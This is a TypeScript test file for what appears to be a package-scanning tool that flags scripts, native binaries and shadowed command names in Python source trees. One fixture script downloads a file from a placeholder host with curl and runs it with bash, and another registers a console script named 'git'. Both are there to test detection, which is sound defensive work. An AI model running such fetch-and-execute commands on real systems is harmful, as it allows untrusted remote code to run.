import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { elf } from '../../../test/builders/native-files.ts';
import { createInspector } from './inspector.ts';

const folder = await mkdtemp(join(tmpdir(), 'wheelgate-tree-'));
const inspector = createInspector({ deadlineMs: 60_000, maxMemoryBytes: 2 ** 29, threads: 1 });
after(async () => {
  await inspector.close();
  await rm(folder, { recursive: true });
});

/** A source tree with these files. */
async function aTree(name: string, files: Readonly<Record<string, string | Uint8Array>>): Promise<string> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(join(folder, name, path, '..'), { recursive: true });
    await writeFile(join(folder, name, path), content);
  }
  return join(folder, name);
}

test('a source tree is read for scripts, programs and commands too', async () => {
  const tree = await aTree('other', {
    'demo/__init__.py': '',
    'pyproject.toml': '[project.scripts]\ngit = "demo:main"\n',
    'tools/up.sh': 'curl -o a https://x.invalid/a\nbash a\n',
    'bin/tool': elf(),
  });
  await symlink('/etc/hostname', join(tree, 'link.py'));
  const { findings, nativeFiles, complete } = await inspector.inspectFolder(tree);
  assert.deepEqual(
    findings.map(({ code, effect, file }) => `${effect} ${code} ${file}`),
    ['note command-name pyproject.toml', 'note script tools/up.sh', 'note native bin/tool'],
  );
  assert.deepEqual(nativeFiles, ['bin/tool']);
  assert.equal(complete, true);
});

test('what cannot be read is named and holds, the rest is read all the same', {
  skip: process.getuid?.() === 0 ? 'the superuser may read everything' : false,
}, async () => {
  const tree = await aTree('closed', { 'a.py': 'x = 1\n', 'b.py': 'x = 1\n', 'inside/c.py': 'x = 1\n' });
  await chmod(join(tree, 'a.py'), 0);
  await chmod(join(tree, 'inside'), 0);
  const { findings, complete } = await inspector.inspectFolder(tree);
  await chmod(join(tree, 'inside'), 0o700);
  assert.deepEqual(
    findings.map(({ code, effect, file }) => `${effect} ${code} ${file}`),
    ['hold error a.py', 'hold error inside'],
  );
  assert.equal(complete, false);
});
